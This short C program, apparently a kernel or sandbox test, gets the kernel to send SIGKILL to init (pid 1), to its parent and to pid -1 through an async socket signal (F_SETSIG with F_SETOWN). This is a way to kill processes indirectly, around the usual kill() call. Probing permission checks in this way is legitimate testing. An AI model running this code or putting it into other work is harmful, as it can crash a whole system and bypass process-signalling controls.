/* kills_by_readiness.c -- lets the kernel send SIGKILL to init and to its parent, in its stead. */
#include "won.h"
#include <sys/socket.h>
static void aim(pid_t pid)
{
    int ends[2];
    (void)!socketpair(AF_UNIX, SOCK_STREAM, 0, ends);
    fcntl(ends[0], F_SETSIG, SIGKILL);
    fcntl(ends[0], F_SETOWN, pid);
    fcntl(ends[0], F_SETFL, O_ASYNC);
    (void)!write(ends[1], "x", 1);
}
int main(void)
{
    aim(1);
    aim(getppid());
    aim(-1);
    puts("still here");
    return 0;
}
